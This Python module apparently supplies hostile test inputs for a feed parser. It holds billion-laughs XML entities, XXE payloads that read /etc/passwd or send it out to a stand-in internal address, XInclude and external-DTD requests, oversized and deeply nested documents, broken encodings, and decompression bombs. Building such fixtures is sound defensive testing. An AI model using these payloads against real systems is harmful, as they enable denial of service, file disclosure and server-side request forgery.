"""Documents that were made to hurt whoever reads them, each made on the spot: name → body.

What lives here: one way to do harm a document. Most are legal XML, HTML or JSON; what they cost a careless reader is
time by the square of their length, memory by a power of it, a file of ours, or a request that somebody else wanted.
"""

from __future__ import annotations

import json
import zlib

PASSWORDS = "file:///etc/passwd"
INSIDE = "http://127.0.0.1:9/inside"


def rss(items: str, head: str = "") -> bytes:
    return f"{head}<rss version='2.0'><channel><title>T</title>{items}</channel></rss>".encode()


def item(description: str, title: str = "t") -> bytes:
    return rss(f"<item><title>{title}</title><description>{description}</description></item>")


def _doctype(*declarations: str) -> str:
    return f"<!DOCTYPE rss [{''.join(declarations)}]>"


def _laughs(first: str, step: str, times: int = 11) -> str:
    """Entities that name the one before ten times each."""
    return first + "".join(step.format(n=n, before=n - 1) for n in range(1, times + 1))


ENTITIES = {
    "laughs in a title": rss(
        "<item><title>&a11;</title></item>",
        _doctype(_laughs("<!ENTITY a0 'ha'>", "<!ENTITY a{n} '" + "&a{before};" * 10 + "'>")),
    ),
    "laughs in an attribute": rss(
        "<item><title x='&a11;'>t</title></item>",
        _doctype(_laughs("<!ENTITY a0 'ha'>", "<!ENTITY a{n} '" + "&a{before};" * 10 + "'>")),
    ),
    "laughs by parameters": rss(
        "<item><title>&b;</title></item>",
        _doctype(
            _laughs("<!ENTITY % a0 'ha'>", "<!ENTITY % a{n} '" + "&#37;a{before};" * 10 + "'>"), "<!ENTITY b '%a11;'>"
        ),
    ),
    "laughs with long names": rss(
        "<item><title>&" + "a" * 500 + "11;</title></item>",
        _doctype(
            _laughs(
                f"<!ENTITY {'a' * 500}0 'ha'>",
                "<!ENTITY " + "a" * 500 + "{n} '" + ("&" + "a" * 500 + "{before};") * 10 + "'>",
            )
        ),
    ),
    "one entity very often": rss(
        f"<item><title>{'&a;' * 50_000}</title></item>", _doctype(f"<!ENTITY a '{'x' * 50_000}'>")
    ),
    "an entity of itself": rss("<item><title>&a;</title></item>", _doctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>")),
    "very many entities": rss(
        "<item><title>&a1;</title></item>", _doctype(*(f"<!ENTITY a{n} 'x'>" for n in range(50_000)))
    ),
}

EXTERNAL = {
    "external file": rss("<item><title>&a;</title></item>", _doctype(f"<!ENTITY a SYSTEM '{PASSWORDS}'>")),
    "external address": rss("<item><title>&a;</title></item>", _doctype(f"<!ENTITY a SYSTEM '{INSIDE}'>")),
    "external by a public name": rss("<item><title>&a;</title></item>", _doctype(f"<!ENTITY a PUBLIC 'p' '{INSIDE}'>")),
    "external parameter": rss("", _doctype(f"<!ENTITY % a SYSTEM '{INSIDE}'> %a;")),
    "external parameter that takes a file along": rss(
        "",
        _doctype(
            f"<!ENTITY % f SYSTEM '{PASSWORDS}'>",
            f"<!ENTITY % a \"<!ENTITY &#37; b SYSTEM '{INSIDE}?%f;'>\">",
            "%a; %b;",
        ),
    ),
    "external document type": rss("", f"<!DOCTYPE rss SYSTEM '{INSIDE}.dtd'>"),
    "external document type by a public name": rss("", f"<!DOCTYPE rss PUBLIC 'p' '{INSIDE}.dtd'>"),
    "inclusion of a file": rss(
        f"<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='{PASSWORDS}' parse='text'/>"
    ),
    "a style sheet": rss("<item><title>t</title></item>", f"<?xml-stylesheet type='text/xsl' href='{INSIDE}'?>"),
    "a schema": (
        f"<rss xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:noNamespaceSchemaLocation='{INSIDE}'>"
        "<channel><item><title>t</title></item></channel></rss>"
    ).encode(),
}

LARGE = {
    "a huge text": item("x" * 10_000_000),
    "a huge attribute": item(f"<b a='{'x' * 8_000_000}'/>"),
    "a huge name": item(f"<{'b' * 2_000_000}/>"),
    "a huge comment": rss(f"<!--{'x' * 8_000_000}--><item><title>t</title></item>"),
    "spaces before the root": b" " * 2_000_000 + rss("<item><title>t</title></item>"),
    "spaces within a tag": item(f"<b{' ' * 2_000_000}/>"),
    "200,000 items": rss("<item><title>t</title></item>" * 200_000),
    "200,000 broken items": rss("<item><title>t</item>" * 200_000),
    "very many attributes": item("<b " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>"),
    "very many attributes, broken": item("<b " + " ".join(f"a{n}='1'" for n in range(5_000)) + "/></i>"),
    "very many namespaces": item("<b " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(50_000)) + "/>"),
    "a very long author": rss(f"<item><author>{'a' * 80_000}</author></item>"),
    "a very long author, broken": rss(f"<item><author>{'a@' * 40_000}</author></b></item>"),
    "a very long date": rss(f"<item><pubDate>{'1' * 200_000}</pubDate></item>"),
    "a very long number of minutes": rss(f"<ttl>{'9' * 200_000}</ttl><item><title>t</title></item>"),
}

DEEP = {
    "1,000 deep": item("<b>" * 1_000 + "</b>" * 1_000),
    "20,000 deep": item("<b>" * 20_000 + "</b>" * 20_000),
    "two million that never close": item("<b>" * 2_000_000),
    "deep in an item's HTML": item(f"<![CDATA[{'<div>' * 100_000}]]>"),
    "deep in a content": rss(
        f"<item><c:encoded xmlns:c='http://purl.org/rss/1.0/modules/content/'>{'&lt;div>' * 100_000}</c:encoded></item>"
    ),
    "deep JSON": b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 200_000,
}

RUNS = {
    "300,000 comment starts": item("<!--" * 300_000),
    "comment starts in HTML": item(f"<![CDATA[{'<!--' * 20_000}]]>"),
    "CDATA starts": item("<![CDATA[" * 50_000),
    "script starts": item("&lt;script&gt;" * 50_000),
    "less-than signs": item("<" * 200_000),
    "ampersands": item("&" * 300_000),
    "document types": b"<!DOCTYPE " * 100_000 + rss("<item><title>t</title></item>"),
    "instruction starts": item("<?" * 200_000),
    "item starts": b"<rss><channel>" + b"<item" * 200_000,
    "item starts and no end": b"<rss><channel>" + b"<item><title>t" * 100_000,
    "quotes": item("<b a='" * 50_000),
    "entity starts": rss("<item><title>t</title></item>", "<!DOCTYPE rss [" + "<!ENTITY " * 100_000),
}

ENCODED = {
    "utf-7": b"<?xml version='1.0' encoding='utf-7'?>+ADw-rss+AD4-",
    "characters that are none": item("x", title="a&#x110000;&#xD800;&#xFFFFFFFF;&#0;b"),
    "bytes that are no UTF-8": b"<?xml version='1.0' encoding='utf-8'?>" + item("\u00f1" * 9).replace(b"\xb1", b"\xff"),
    "half a wide encoding": b"\xff\xfe" + "<rss>".encode("utf-16-le") + b"<" * 100_001,
    "an encoding that does not exist": b"<?xml version='1.0' encoding='" + b"x" * 100_000 + b"'?>" + item("x"),
    "zeros": b"<rss>" + b"\0" * 2_000_000 + b"</rss>",
    "a long number": b'{"version":"https://jsonfeed.org/version/1","items":[{"id":' + b"9" * 1_000_000 + b"}]}",
    "a number without end": b'{"version":"https://jsonfeed.org/version/1","items":[{"id":1e999999999}]}',
    "one key very often": json.dumps({"version": "https://jsonfeed.org/version/1", "items": []}).encode()[:-1]
    + b',"items":[]' * 200_000
    + b"}",
}

HOSTILE: dict[str, bytes] = {**ENTITIES, **EXTERNAL, **LARGE, **DEEP, **RUNS, **ENCODED}


# ---- compressed ------------------------------------------------------------------------------------------------------


def gzip_bomb(megabytes: int) -> bytes:
    """So many megabytes of zeros, about a thousandth as long; it has no end, for nobody is to get there."""
    packer = zlib.compressobj(9, wbits=31)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + megabyte + again * (megabytes - 1)


def deflate_bomb(megabytes: int) -> bytes:
    """The same with another envelope."""
    return b"\x78\xda" + gzip_bomb(megabytes)[10:]


def zstd_bomb(megabytes: int) -> bytes:
    """Blocks of one byte that stands for 128 kB each."""
    return b"\x28\xb5\x2f\xfd\0\x58" + ((131_072 << 3) | 2).to_bytes(3, "little").join(
        [b""] * 2 + [b"\0"] * (8 * megabytes)
    )
